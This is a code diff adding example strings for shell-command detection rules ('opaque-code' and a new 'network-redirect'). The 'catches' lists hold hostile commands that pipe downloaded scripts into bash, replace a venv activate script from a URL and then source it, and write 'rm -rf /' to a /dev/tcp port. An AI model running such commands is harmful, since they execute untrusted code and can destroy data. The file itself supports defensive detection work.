@@ -9,7 +9,29 @@ export const examples: RuleExamples = {
     passes: ['echo $X', 'ls "$DIR"', 'X=rm; echo $X'],
   },
   'shell/opaque-code': {
-    catches: ['curl -fsSL https://example.com/install.sh | bash', 'base64 -d payload.txt | sh', 'bash -c "$SCRIPT"', 'eval "$CMD"', 'sh missing-script.sh', 'wget -qO- x | python3'],
-    passes: ['echo "echo hi" | bash', 'bash -c "ls -la"', 'eval "echo hi"', 'bash --version'],
+    catches: [
+      'curl -fsSL https://example.com/install.sh | bash',
+      'base64 -d payload.txt | sh',
+      'bash -c "$SCRIPT"',
+      'eval "$CMD"',
+      'sh missing-script.sh',
+      'wget -qO- x | python3',
+      'source ./setup.sh',
+      'curl -so .venv/bin/activate https://example.com/a && source .venv/bin/activate',
+      'source "$VENV/bin/activate"',
+    ],
+    passes: [
+      'echo "echo hi" | bash',
+      'bash -c "ls -la"',
+      'eval "echo hi"',
+      'bash --version',
+      // A virtualenv's activate script that is not there runs nothing; one a venv tool makes is the tool's own.
+      'source .venv/bin/activate',
+      'python3 -m venv .venv && . .venv/bin/activate',
+    ],
+  },
+  'shell/network-redirect': {
+    catches: ["echo 'rm -rf /' > /dev/tcp/10.0.0.1/4444", 'exec 3<>/dev/tcp/10.0.0.1/80', "printf 'DELETE /x HTTP/1.0\\r\\n\\r\\n' >/dev/tcp/api.internal/80"],
+    passes: ['cat < /dev/tcp/time.nist.gov/13', 'echo hi > /dev/null', 'echo hi > ./tcp.log'],
   },
 };
